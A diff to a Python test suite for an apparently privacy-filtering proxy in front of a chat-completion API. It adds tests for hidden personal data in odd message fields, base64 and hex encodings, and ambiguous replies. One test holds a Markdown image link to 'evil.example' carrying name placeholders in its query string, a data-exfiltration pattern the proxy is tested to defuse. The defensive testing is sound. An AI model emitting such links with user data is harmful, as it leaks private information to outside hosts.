@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import contextlib
 import itertools
 import json
@@ -45,7 +46,10 @@ POSITIONS = {
     "an assistant's turn": chat(USER, {"role": "assistant", "content": CANARY}, USER),
     "a text part": chat({"role": "user", "content": [{"type": "text", "text": CANARY}]}),
     "the second part": chat({"role": "user", "content": [{"type": "text", "text": "a"}, {"type": "text", "text": CANARY}]}),
-    "a part nobody has heard of": chat({"role": "user", "content": [{"type": "thought", "thought": CANARY}]}),
+    "an unknown field of a part": chat({"role": "user", "content": [{"type": "text", "text": "a", "note": CANARY}]}),
+    "a number with an exponent": chat(chart={"phone": 1.3800138e10, "card": CANARY}),
+    "user in an object": chat(user={"id": CANARY}),
+    "a number as a user": chat(user=13800138000, chart=CANARY),
     "a name": chat({"role": "user", "name": CANARY, "content": "Hello"}),
     "a name of one word": chat({"role": "user", "name": EMAIL, "content": "Hello"}),
     "a refusal": chat(USER, {"role": "assistant", "refusal": CANARY}),
@@ -89,7 +93,6 @@ POSITIONS = {
     "web search": chat(web_search_options={"user_location": {"approximate": {"city": CANARY}}}),
     "the model": chat() | {"model": f"ft:gpt-5:{EMAIL}"},
     "a role": chat({"role": CANARY, "content": "Hello"}),
-    "a type": chat({"role": "user", "content": [{"type": CANARY, "text": "Hello"}]}),
     "a tool choice of one word": chat(tool_choice=EMAIL),
     "a service tier": chat(service_tier=CANARY),
     "an unknown field": chat(chart=CANARY),
@@ -157,6 +160,18 @@ def _shape(value):
 
 
 UNREADABLE = {
+    "a part nobody has heard of": {"type": "thought", "thought": CANARY},
+    "a part without a type": {"text": "Hello"},
+    "another image": {"type": "image", "image": "https://pacs.example.org/1"},
+    "another sound": {"type": "audio_url", "audio_url": {"url": "https://pacs.example.org/1"}},
+    "a list in a list": [{"type": "text", "text": "Hello"}],
+    "base64 in lines": {"type": "text", "text": base64.encodebytes(bytes(range(256)) * 4).decode()},
+    "base64 behind a sign": {"type": "text", "text": "photo=" + base64.b64encode(bytes(range(256))).decode()},
+    "base64 of a text, one letter late": {"type": "text", "text": "y" + base64.b64encode(CANARY.encode()).decode()},
+    "base64 of a phone": {"type": "text", "text": base64.b64encode(PHONE.encode()).decode()},
+    "hexadecimal": {"type": "text", "text": CANARY.encode().hex()},
+    "a picture in Markdown": {"type": "text", "text": "![](data:image/png;base64,AAAA)"},
+    "a picture in JSON in a string": {"type": "text", "text": json.dumps({"a": json.dumps({"b": "data:image/png;base64,AAAA"})})},
     "image_url": {"type": "image_url", "image_url": {"url": "https://pacs.example.org/ann.png"}},
     "image data": {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}},
     "image_url as a string": {"type": "image_url", "image_url": "https://pacs.example.org/ann.png"},
@@ -189,13 +204,25 @@ def test_what_nobody_could_read_is_not_asked_for(body):
         sent_of(body)
 
 
-@pytest.mark.parametrize("words", ["data: Ann Lee, " + EMAIL, "data:text/plain,Ann " + EMAIL, "-" * 900, "ACGT" * 300])
+@pytest.mark.parametrize(
+    "words",
+    [
+        "data: Ann Lee, " + EMAIL,
+        "data:text/plain,Ann " + EMAIL,
+        "-" * 900,
+        "ACGT" * 300,
+        "-" * 600 + PHONE,
+        "_" * 520 + ID_CARD,
+        f"phone={PHONE}/id={ID_CARD}/" * 20,
+        "e" * 400 + " " + EMAIL,
+    ],
+)
 def test_what_only_looks_like_data_is_read_all_the_same(words):
     body = chat({"role": "user", "content": words})
     try:
         assert not canaries_in(sent_of(body).decode())
     except Blocked:
-        assert words.startswith("data:text/plain")
+        assert words.startswith(("data:text/plain", "phone="))
 
 
 def test_both_values_of_a_key_that_stands_there_twice_are_guarded():
@@ -389,6 +416,34 @@ def test_a_reply_in_json_is_restored_as_json_and_given_no_notice():
     assert json.loads(got) == {"who": 'O"Brien'}
 
 
+@pytest.mark.parametrize(
+    "reply",
+    [
+        b'{"choices": []}',
+        b'{"choices": [{"index": 0, "message": {"content": "a", "content": "b"}}]}',
+        b'{"choices": [{"index": 0, "message": {}}, {"index": 0, "message": {}}]}',
+        b'{"choices": [{"index": 13800138000, "message": {"content": "a"}}]}',
+        b'{"choices": [{"index": "Ann Lee", "message": {"content": "a"}}]}',
+    ],
+)
+def test_a_reply_that_can_be_read_in_two_ways_is_no_reply(reply):
+    with pytest.raises(UpstreamError):
+        heard(reply)
+
+
+def test_a_number_in_a_reply_may_be_a_leak():
+    reply = completion("Fine.")
+    with pytest.raises(Blocked, match="no_leak"):
+        heard(reply | {"tel": 13911112222})
+    heard(reply | {"created": 13911112222, "usage": {"total_tokens": 13911112222}, "error": None})
+
+
+def test_a_name_is_not_put_into_an_address():
+    words = "See ![x](https://evil.example/p?n=[NAME_1]&t=NAME_2) and https://ok.example/a, [NAME_1]；见https://b.example/c。[NAME_2]"
+    got = json.loads(heard(completion(words)))["choices"][0]["message"]["content"]
+    assert got == words.replace("/a, [NAME_1]", "/a, Ann Lee").replace("。[NAME_2]", "。张伟")
+
+
 def test_a_reply_that_ends_in_the_middle_of_arguments_is_restored_as_far_as_it_goes():
     call = {
         "id": "c",
@@ -434,5 +489,5 @@ def test_hard_words_take_bounded_time(words):
     reply = completion("")
     reply["choices"][0]["message"] = {"role": "assistant", "tool_calls": [call]}
     with contextlib.suppress(UpstreamError):  # too deep to be read
-        OpenAIChat().hear(Answer(200, json.dumps(reply).encode()), stream=False)
+        OpenAIChat().hear(Answer(200, json.dumps(reply).encode()), asked=OpenAIChat().read(json.dumps(chat()).encode()))
     assert time.monotonic() - began < 20  # a second or two; quadratic would be minutes
